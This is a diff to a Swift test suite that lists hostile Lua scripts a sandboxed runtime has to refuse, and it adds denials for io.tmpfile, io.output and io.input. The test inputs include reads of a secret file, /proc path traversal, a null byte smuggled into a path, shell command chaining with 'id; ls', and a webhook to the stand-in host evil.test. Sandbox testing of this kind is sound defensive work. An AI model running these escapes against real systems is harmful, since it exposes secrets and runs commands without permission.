@@ -18,7 +18,9 @@ extension HostileScript {
         unreadable("the root of a process", "io.open('/proc/self/root@/secret.txt')"),
         unreadable(
             "the folder of a process", "io.open('/proc/self/cwd/../../../../../../../../../..@/secret.txt')"),
-        unreadable("io.lines", "for line in io.lines('@/secret.txt') do print(line) end"),
+        denied(
+            "io.lines", "for line in io.lines('@/secret.txt') do print(line) end", "io.lines",
+            "read @/secret.txt", flag: "--allow-read=@/secret.txt"),
         HostileScript(
             name: "a finalizer that opens a file",
             script: """
@@ -27,7 +29,7 @@ extension HostileScript {
                 collectgarbage()
                 error(why)
                 """,
-            sentence: "cannot wait for '_system.open' inside a finalizer", code: "task.cannot_wait"),
+            sentence: "cannot wait for 'io.open' inside a finalizer", code: "task.cannot_wait"),
         HostileScript(
             name: "a zero in a path", script: #"assert(io.open('@/secret.txt\0/inside'))"#,
             sentence: "@/secret.txt\0/inside: No such file or directory"),
@@ -48,7 +50,13 @@ extension HostileScript {
             "os.rename", "read @/secret.txt", flag: "--allow-read=@/secret.txt"),
         denied(
             "a temporary name", "os.tmpname()", "os.tmpname", "write /tmp", flag: "--allow-write=/tmp"),
-        absent("io.tmpfile", "io.tmpfile()", "take a name and open it: io.open(os.tmpname(), 'w')"),
+        denied("io.tmpfile", "io.tmpfile()", "io.tmpfile", "write /tmp", flag: "--allow-write=/tmp"),
+        denied(
+            "io.output", "io.output('@/new.txt')", "io.output", "write @/new.txt",
+            flag: "--allow-write=@/new.txt"),
+        denied(
+            "io.input", "io.input('@/secret.txt')", "io.input", "read @/secret.txt",
+            flag: "--allow-read=@/secret.txt"),
         notFound("require of an absolute path", module: "@/secret"),
         notFound("require of ..", module: "../secret"),
         notFound("require of two dots", module: "..secret"),
@@ -62,7 +70,9 @@ extension HostileScript {
     static let machine: [HostileScript] = [
         denied("os.execute", "os.execute('id')", "os.execute", "run id", flag: "--allow-run=id"),
         denied("io.popen", "io.popen('id')", "io.popen", "run id", flag: "--allow-run=id"),
-        denied("a shell", "os.execute('id; ls')", "os.execute", "run sh", flag: "--allow-run=sh"),
+        denied(
+            "a shell", "os.execute('id; ls')", "os.execute (a shell is needed for several commands with ';')",
+            "run sh", flag: "--allow-run=sh"),
         denied(
             "a program by its path", "io.popen('/usr/bin/env id')", "io.popen", "run /usr/bin/env",
             flag: "--allow-run=/usr/bin/env"),
@@ -71,10 +81,10 @@ extension HostileScript {
             flag: "--allow-run=id"),
         absent(
             "os.exit", "os.exit(0)",
-            "a script cannot end the program around it: return ends the script, error(text) fails it"),
-        absent(
-            "os.setlocale", "os.setlocale('C')",
-            "the locale belongs to the program around a script and stays 'C'"),
+            "a script cannot end the program around it; return ends the script, error(text) fails it"),
+        HostileScript(
+            name: "os.setlocale", script: "assert(os.setlocale('de_DE.UTF-8'))", sentence: "assertion failed!"
+        ),
         denied(
             "the network by notify", "require('notify').webhook('https://evil.test/x')('now')",
             "notify.webhook", "connect to evil.test:443", flag: "--allow-net=evil.test:443"),
